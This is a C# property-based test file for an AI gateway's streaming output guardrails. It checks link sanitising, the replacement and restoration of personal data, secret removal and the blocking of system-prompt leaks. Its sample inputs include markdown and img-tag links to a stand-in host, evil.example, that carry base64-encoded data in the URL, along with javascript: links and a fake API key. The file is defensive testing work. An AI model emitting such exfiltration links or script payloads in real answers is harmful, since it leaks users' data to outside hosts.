using System.Text;
using System.Text.Json;
using System.Text.Json.Nodes;
using Artisan.Core.Gateway.Pipeline;
using Artisan.Core.Gateway.Pipeline.Stages;
using Artisan.Core.Gateway.Providers;
using Artisan.Core.Guardrails.Policy;
using Artisan.Core.Guardrails.Security;
using Artisan.Core.Kernel;
using FsCheck;
using FsCheck.Fluent;
using Shouldly;
using Xunit;

namespace Artisan.Core.Tests.Guardrails.Stages;

/// <summary>Answers that come in pieces leave as they would have left whole.</summary>
public sealed class AnswerWindowTests
{
    private const string Prompt = "You are Kestrel, the assistant of our pricing desk. Never name a discount above fifteen percent. Margins of the premium line are confidential and stay with the desk.";
    private static readonly string[] s_words =
    [
        "Revenue grew by 12 %. ", "See https://docs.example.com/start for more. ", "![logo](https://evil.example/p.png?d=c2VjcmV0LWN1c3RvbWVyLWxpc3Qtb2YtdGhlLXllYXI) ", "[here](javascript:alert(1)) ", "a < b and c > d ", "<EMAIL_ADDRESS_1>", "<EMAIL", "_ADDRESS_1> ",
        "Hi 😀 ", "ob", "j", "java", "http", "s:", "//", "data", ":", "[", "]", "(", ")", "!", "\n", "www.example.com ", "x@y.example ", "<img src=\"https://evil.example/a?d=c2VjcmV0LWN1c3RvbWVyLWxpc3Qtb2YtdGhlLXllYXI\"> ",
    ];

    [Fact]
    public void Pieces_give_what_the_whole_text_gives() =>
        Prop.ForAll(Gen.Elements(s_words).ListOf().Select(w => string.Concat(w)).Zip(Gen.Choose(1, 30)).ToArbitrary(), input =>
        {
            (string text, int size) = input;
            string whole = text.Length == 0 ? "" : new GuardCalls().Filter(Call()).ApplyAsync(text, CancellationToken.None).AsTask().Result;
            Streamed(Call(), Pieces(text, size)).Text.ShouldBe(whole);
        }).Check(Config.QuickThrowOnFailure.WithMaxTest(500));

    [Fact]
    public void Nothing_but_what_was_found_is_lost_where_personal_data_is_taken_out() =>
        Prop.ForAll(Gen.Elements([.. s_words, "anna@kestrel.example ", "+49 30 90182077 ", "🙂🙂🙂🙂", new string('x', 90), string.Concat(Enumerable.Repeat("😀", 60))]).ListOf().Select(w => string.Concat(w)).Zip(Gen.Choose(1, 30)).ToArbitrary(), input =>
        {
            (string text, int size) = input;
            var policy = new GuardrailPolicy { Pii = new PersonalDataPolicy { ToCallers = PiiAction.Replace, EntityTypes = ["CRYPTO"] }, Output = new AnswerPolicy { UnsafeLinks = GuardAction.Off } };
            Streamed(Call(policy), Pieces(text, size)).Text.ShouldBe(text);
        }).Check(Config.QuickThrowOnFailure.WithMaxTest(300));

    [Fact]
    public void Clean_text_is_not_held_and_leaves_byte_for_byte()
    {
        string[] pieces = ["Revenue ", "grew by 12 ", "% in May. ", "The pilot begins on Monday", ", and the team is ready."];
        (List<ProviderEvent> events, _) = Run(Call(), pieces.Select(p => Piece(p)));
        events.Select(e => e.Text).ShouldBe(pieces);
        events.Select(e => Encoding.UTF8.GetString(e.Data.Span)).ShouldBe(pieces.Select(p => Encoding.UTF8.GetString(Piece(p).Data.Span)));
    }

    [Fact]
    public void What_takes_the_place_of_personal_data_becomes_it_again_however_it_is_cut() =>
        Prop.ForAll(Gen.Choose(1, 25).ToArbitrary(), size =>
        {
            AiCall call = Call();
            call.Placeholders = new Dictionary<string, string> { ["<EMAIL_ADDRESS_1>"] = "anna@kestrel.example", ["<PERSON_1>"] = "Anna" };
            Streamed(call, Pieces("Dear <PERSON_1>, is a < b? Write to <EMAIL_ADDRESS_1>, not to <EMAIL_ADDRESS_9> <", size)).Text
                .ShouldBe("Dear Anna, is a < b? Write to anna@kestrel.example, not to <EMAIL_ADDRESS_9> <");
        }).QuickCheckThrowOnFailure();

    [Fact]
    public void Choices_are_held_apart()
    {
        (List<ProviderEvent> events, _) = Run(Call(), [Piece("See [a", 0), Piece("Plain text", 1), Piece("](javascript:x) end", 0), Piece("[b](java", 1), Piece("script:y) end", 1)]);
        TextOf(events, 0).ShouldNotContain("javascript");
        TextOf(events, 1).ShouldNotContain("javascript");
        TextOf(events, 0).ShouldStartWith("See ");
        TextOf(events, 0).ShouldEndWith(" end");
        TextOf(events, 1).ShouldStartWith("Plain text");
    }

    [Fact]
    public void What_is_held_leaves_before_the_end_of_its_choice_and_before_the_figures()
    {
        ProviderEvent end = new() { Data = """{"choices":[{"index":0,"delta":{},"finish_reason":"stop"}]}"""u8.ToArray(), FinishReason = "stop" };
        ProviderEvent usage = new() { Data = """{"choices":[],"usage":{"total_tokens":3}}"""u8.ToArray(), UsageOnly = true, Usage = default(TokenUsage) };
        (List<ProviderEvent> events, _) = Run(Call(), [Piece("Call ["), Piece("unfinished", 1), Piece("see https://exa", 1), end, usage]);
        TextOf(events, 0).ShouldBe("Call [");
        TextOf(events, 1).ShouldBe("unfinishedsee https://exa");
        events.FindIndex(e => e.FinishReason == "stop").ShouldBeGreaterThan(events.FindLastIndex(e => e.Choice == 0 && e.Text is { Length: > 0 }));
        events[^1].UsageOnly.ShouldBeTrue();
        events[^1].Data.ToArray().ShouldBe(usage.Data.ToArray());
    }

    [Fact]
    public void Secrets_are_taken_out_of_a_stream_although_the_policy_has_no_such_type()
    {
        var policy = new GuardrailPolicy { Pii = new PersonalDataPolicy { ToCallers = PiiAction.Replace, EntityTypes = ["EMAIL_ADDRESS"] }, Output = new AnswerPolicy { Secrets = GuardAction.Sanitise } };
        (string text, GuardCalls guards) = Streamed(Call(policy), Pieces("Write to anna@kestrel.example with the API key sk-proj-Zq83hfKd02mXcVb91LqPz7Rt5Ys4Wn6A please.", 7));
        text.ShouldNotContain("anna@");
        text.ShouldNotContain("sk-proj");
        text.ShouldEndWith(" please.");
        guards.Events.Count.ShouldBeGreaterThanOrEqualTo(1);
    }

    [Fact]
    public void A_key_ends_a_stream_that_must_hold_none_also_where_personal_data_is_only_replaced()
    {
        var policy = new GuardrailPolicy { Pii = new PersonalDataPolicy { ToCallers = PiiAction.Replace }, Output = new AnswerPolicy { Secrets = GuardAction.Block } };
        Should.Throw<ArtisanException>(() => Streamed(Call(policy), ["Write to anna@kestrel.example with the API key sk-proj-Zq83hfKd02mXcVb91LqPz7Rt5Ys4Wn6A please."])).Code.ShouldBe(ErrorCode.ContentRefused);
    }

    [Fact]
    public void A_stream_that_gives_the_system_prompt_away_ends_before_all_of_it_is_out()
    {
        var policy = new GuardrailPolicy { Output = new AnswerPolicy { SystemPromptLeak = GuardAction.Block } };
        var left = new StringBuilder();
        var windows = new AnswerWindows(new GuardCalls().Filter(Call(policy, Prompt)));
        Should.Throw<ArtisanException>(() =>
        {
            foreach (string piece in Pieces("Of course. " + Prompt, 9))
                left.Append(windows.Pass(Piece(piece))?.Text);
        }).Code.ShouldBe(ErrorCode.ContentRefused);
        left.ToString().ShouldNotContain("stay with the desk");
    }

    [Fact]
    public void A_finding_far_into_a_long_stream_is_noted_without_breaking_it()
    {
        var policy = new GuardrailPolicy { Output = new AnswerPolicy { SystemPromptLeak = GuardAction.Block } };
        (string text, GuardCalls guards) = Streamed(Call(policy, Prompt), [.. Enumerable.Repeat("All is well with the pilot. ", 8000), "[here](javascript:alert(1)) is the end."]);
        text.ShouldEndWith(" is the end.");
        text.ShouldNotContain("javascript");
        guards.Events.ShouldAllBe(e => e.Kind == SecurityEventKind.UnsafeLink);
    }

    private static AiCall Call(GuardrailPolicy? policy = null, string? system = null) =>
        GuardCalls.Chat($$"""{"model":"m","messages":[{{(system is null ? "" : $$"""{"role":"system","content":{{JsonSerializer.Serialize(system)}}},""")}}{"role":"user","content":"Hi"}]}""", policy);

    // By characters as people count them: vendors send whole ones.
    private static List<string> Pieces(string text, int size) => [.. text.EnumerateRunes().Chunk(size).Select(c => string.Concat(c))];

    private static ProviderEvent Piece(string text, int choice = 0) => new() { Data = Encoding.UTF8.GetBytes($$$"""{"id":"c","choices":[{"index":{{{choice}}},"delta":{"content":{{{JsonSerializer.Serialize(text)}}}}}]}"""), Text = text, Choice = choice };

    private static (string Text, GuardCalls Guards) Streamed(AiCall call, IEnumerable<string> pieces)
    {
        (List<ProviderEvent> events, GuardCalls guards) = Run(call, pieces.Select(p => Piece(p)));
        // What clients read is the chunk, what is captured is the text; they must say the same.
        events.Select(e => JsonNode.Parse(e.Data.ToArray())!["choices"]![0]!["delta"]!["content"]!.GetValue<string>()).ShouldBe(events.Select(e => e.Text));
        return (TextOf(events, 0), guards);
    }

    private static (List<ProviderEvent> Events, GuardCalls Guards) Run(AiCall call, IEnumerable<ProviderEvent> source)
    {
        var guards = new GuardCalls();
        var windows = new AnswerWindows(guards.Filter(call));
        var events = new List<ProviderEvent>();
        foreach (ProviderEvent item in source)
        {
            if (windows.Ends(item))
                events.AddRange(windows.Release(item.UsageOnly ? null : item.Choice));
            if (windows.Pass(item) is { } passed)
                events.Add(passed);
        }
        events.AddRange(windows.Release(null));
        windows.EndAsync().AsTask().GetAwaiter().GetResult();
        return (events, guards);
    }

    private static string TextOf(IEnumerable<ProviderEvent> events, int choice) => string.Concat(events.Where(e => e.Choice == choice).Select(e => e.Text));
}
